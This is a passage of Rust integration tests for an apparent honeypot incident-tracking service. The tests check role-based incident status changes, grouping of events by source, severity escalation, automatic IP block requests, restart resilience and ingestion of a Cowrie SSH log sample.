    async fn an_incident_is_acknowledged_then_resolved_by_an_analyst_and_stays_resolved(
        app: TestApp
    ) {
        let source = "203.0.113.110";
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        failed_login(&app, &key, source, "root").await;
        app.wait_for_engine().await;
        let incident = incident_of(&app, source).await;
        assert_eq!(incident["status"], "open");
        let path = format!("{INCIDENTS}/{}", incident["id"]);

        let viewer = app.token("viewer-1", "viewer").await;
        let analyst = app.token("analyst-1", "analyst").await;
        assert_eq!(app.get(&path, &viewer).await.expect(200).body, incident);
        let refused = app.post(&path, &viewer, json!({"status": "acknowledged"})).await;
        refused.expect_problem(403);

        let acknowledged = app.post(&path, &analyst, json!({"status": "acknowledged"})).await;
        assert_eq!(acknowledged.expect(200).body["status"], "acknowledged");
        let again = app.post(&path, &analyst, json!({"status": "acknowledged"})).await;
        again.expect_problem(409);
        let resolved = app.post(&path, &analyst, json!({"status": "resolved"})).await;
        assert_eq!(resolved.expect(200).body["status"], "resolved");
        for status in ["acknowledged", "resolved", "open"] {
            let moved = app.post(&path, &analyst, json!({"status": status})).await;
            moved.expect_problem(409);
        }
        let invalid = app.post(&path, &analyst, json!({"status": "closed"})).await;
        invalid.expect_problem(422);
        assert_eq!(app.get(&path, &viewer).await.expect(200).body["status"], "resolved");

        let unknown = format!("{INCIDENTS}/999999");
        app.get(&unknown, &analyst).await.expect_problem(404);
        app.post(&unknown, &analyst, json!({"status": "resolved"})).await.expect_problem(404);

        let id = incident["id"].as_i64().unwrap();
        let trail = audit_of(&app, "incident.updated", id).await;
        assert_eq!(trail.len(), 2, "{trail:?}");
        assert!(trail.iter().all(|entry| entry["actor"] == "analyst-1"), "{trail:?}");

        // The source comes back: a new incident, the resolved one untouched.
        failed_login(&app, &key, source, "root").await;
        app.wait_for_engine().await;
        let all = incidents(&app, &format!("source_ip={source}")).await;
        assert_eq!(all.len(), 2, "{all:?}");
        assert_eq!(all[0]["status"], "open");
        assert_eq!(all[1]["id"], incident["id"]);
        assert_eq!(all[1]["event_count"], 1);
    }

    async fn an_incident_gathers_one_source_across_honeypots_with_its_worst_severity(
        app: TestApp
    ) {
        let (x, y) = ("203.0.113.120", "203.0.113.121");
        let (ssh, ssh_key) = app.honeypot("ssh-01", "ssh").await;
        let (web, web_key) = app.honeypot("web-01", "web").await;
        let t0 = app.now().minus_seconds(60);
        let at = |seconds| later(t0, seconds).to_string();
        let sent = [
            (&ssh_key, "auth_attempt", x, 0),
            (&ssh_key, "auth_attempt", x, 10),
            (&web_key, "scan", x, 20),
            (&web_key, "scan", y, 25),
        ];
        for (key, event_type, source, seconds) in sent {
            let event = json!({
                "event_type": event_type, "source_ip": source, "occurred_at": at(seconds)
            });
            app.post_event(key, event).await.expect(201);
        }
        intrusion(&app, &web_key, x, later(t0, 30)).await;
        app.wait_for_engine().await;

        let incident = incident_of(&app, x).await;
        assert_eq!(incident["status"], "open");
        assert_eq!(incident["severity"], "high", "the worst of its events");
        assert_eq!(incident["event_count"], 4);
        assert_eq!(incident["first_seen_at"], json!(at(0)));
        assert_eq!(incident["last_seen_at"], json!(at(30)));
        assert_eq!(incident["honeypot_ids"], json!([ssh, web]));
        assert_eq!(incident["action_request_ids"], json!([]));
        assert_eq!(incident["block_ids"], json!([]));
        assert!(incident["summary"].as_str().is_some_and(|text| text.contains(x)), "{incident}");
        let other = incident_of(&app, y).await;
        assert_eq!(other["severity"], "low");
        assert_eq!(other["honeypot_ids"], json!([web]));

        let ids = |found: Vec<Value>| -> BTreeSet<i64> {
            found.iter().map(|incident| incident["id"].as_i64().unwrap()).collect()
        };
        let (x_id, y_id) = (incident["id"].as_i64().unwrap(), other["id"].as_i64().unwrap());
        assert_eq!(ids(incidents(&app, "severity=high").await), [x_id].into());
        assert_eq!(ids(incidents(&app, "severity=low").await), [y_id].into());
        assert_eq!(ids(incidents(&app, "status=open").await), [x_id, y_id].into());
        let mapped = format!("source_ip={}", encode("::ffff:203.0.113.121"));
        assert_eq!(ids(incidents(&app, &mapped).await), [y_id].into());
        let summary = &dashboard(&app).await["incidents"];
        assert_eq!(summary["open"], 2, "{summary}");
        assert_eq!(
            summary["by_severity"],
            json!({"low": 1, "medium": 0, "high": 1, "critical": 0})
        );

        let path = format!("{INCIDENTS}/{y_id}");
        app.admin_post(&path, json!({"status": "resolved"})).await.expect(200);
        assert_eq!(ids(incidents(&app, "status=resolved").await), [y_id].into());
        assert_eq!(ids(incidents(&app, "status=open").await), [x_id].into());
        let summary = &dashboard(&app).await["incidents"];
        assert_eq!(summary["open"], 1, "{summary}");
        assert_eq!(summary["by_severity"]["low"], 0);

        // A worse event raises the severity and leads to a block request;
        // once executed, its block is linked too.
        malware_download(&app, &ssh_key, x).await;
        app.wait_for_engine().await;
        let incident = incident_of(&app, x).await;
        assert_eq!(incident["severity"], "critical");
        assert_eq!(incident["event_count"], 5);
        let requests = block_requests(&app, x).await;
        assert_eq!(incident["action_request_ids"], json!([requests[0]["id"]]));
        assert_eq!(incident["block_ids"], json!([]));
        let executed = approve_and_execute(&app, &requests[0]["id"]).await;
        let incident = incident_of(&app, x).await;
        assert_eq!(incident["block_ids"], json!([executed["result"]["block_id"]]));
        assert_eq!(dashboard(&app).await["incidents"]["by_severity"]["critical"], 1);
    }

    async fn a_source_quiet_for_a_day_starts_a_new_incident(app: TestApp) {
        let source = "203.0.113.125";
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        failed_login(&app, &key, source, "root").await;
        app.clock.advance_seconds(23 * 3600);
        failed_login(&app, &key, source, "root").await;
        app.wait_for_engine().await;
        assert_eq!(incident_of(&app, source).await["event_count"], 2);

        app.clock.advance_seconds(24 * 3600 + 1);
        failed_login(&app, &key, source, "root").await;
        app.wait_for_engine().await;
        let all = incidents(&app, &format!("source_ip={source}")).await;
        assert_eq!(all.len(), 2, "{all:?}");
        assert_eq!(all[0]["event_count"], 1);
        assert_eq!(all[1]["event_count"], 2);
    }

    async fn a_restart_mid_stream_judges_every_event_exactly_once(app: TestApp) {
        let mut app = app;
        const SOURCES: usize = 30;
        const PER_SOURCE: usize = 100;
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        auto_approve_heimdall(&app).await;
        let source = |n: usize| format!("203.0.113.{}", 130 + n % SOURCES);
        let occurred_at = app.now().to_string();
        let lines: Vec<String> = (0..SOURCES * PER_SOURCE)
            .map(|n| {
                json!({
                    "event_type": "auth_attempt", "source_ip": source(n),
                    "username": format!("user_{n}"), "occurred_at": occurred_at
                })
                .to_string()
            })
            .collect();

        // Stop the server right after each half is stored, whatever the
        // engine is doing then.
        for half in lines.chunks(lines.len() / 2) {
            for batch in half.chunks(500) {
                let report = app.post_bulk(&key, "valhalla", batch.join("\n")).await.expect(200);
                assert_eq!(report.body["accepted"], batch.len(), "{}", report.text);
            }
            app.restart().await;
        }
        app.wait_for_engine().await;

        let unprocessed = list_all(&app, &format!("{EVENTS}?processed=false")).await;
        assert!(unprocessed.is_empty(), "{} events unprocessed", unprocessed.len());
        for n in 0..SOURCES {
            let incident = incident_of(&app, &source(n)).await;
            assert_eq!(incident["event_count"], PER_SOURCE, "{incident}");
            let requests = block_requests(&app, &source(n)).await;
            assert_eq!(requests.len(), 1, "{requests:?}");
            assert_eq!(requests[0]["status"], "executed");
            assert_eq!(blocks_of(&app, &source(n)).await.len(), 1);
        }
        let honeypots = &dashboard(&app).await["honeypots"];
        assert_eq!(honeypots["events_24h"], SOURCES * PER_SOURCE, "{honeypots}");
    }

    async fn the_real_cowrie_log_gets_its_brute_forcer_blocked_and_its_intruders_noticed(
        app: TestApp
    ) {
        let (honeypot, key) = app.honeypot("cowrie-01", "ssh").await;
        auto_approve_heimdall(&app).await;
        let log = std::fs::read_to_string(COWRIE_LOG).expect("the Cowrie sample");
        app.post_bulk(&key, "cowrie", log).await.expect(200);
        app.wait_for_engine().await;

        let brute_forcer = "198.51.100.23";
        let requests = block_requests(&app, brute_forcer).await;
        assert_eq!(requests.len(), 1, "{requests:?}");
        assert_eq!(requests[0]["status"], "executed", "{}", requests[0]);
        assert_eq!(requests[0]["requested_by"], "heimdall");
        let blocks = active_blocks_of(&app, brute_forcer).await;
        assert_eq!(blocks.len(), 1, "{blocks:?}");
        assert_eq!(blocks[0]["action_request_id"], requests[0]["id"]);
        assert_eq!(app.check_ip(brute_forcer).await.body["blocked"], true);
        let incident = incident_of(&app, brute_forcer).await;
        assert_eq!(incident["action_request_ids"], json!([requests[0]["id"]]));
        assert_eq!(incident["block_ids"], json!([blocks[0]["id"]]));
        assert_eq!(incident["honeypot_ids"], json!([honeypot]));

        for intruder in ["203.0.113.77", "192.0.2.150", "198.51.100.204"] {
            let incident = incident_of(&app, intruder).await;
            let severity = incident["severity"].as_str().unwrap_or_default();
            assert!(["high", "critical"].contains(&severity), "{intruder}: {incident}");
        }

        let dashboard = dashboard(&app).await;
        assert!(dashboard["blocklist"]["active"].as_i64() >= Some(1), "{dashboard}");
        assert!(dashboard["incidents"]["open"].as_i64() >= Some(4), "{dashboard}");
        let by_severity = &dashboard["incidents"]["by_severity"];
        let serious = ["high", "critical"]
            .iter()
            .map(|level| by_severity[level].as_i64().expect("a count"))
            .sum::<i64>();
        assert!(serious >= 3, "{by_severity}");
        assert_eq!(dashboard["honeypots"]["unprocessed"], 0);
    }
}
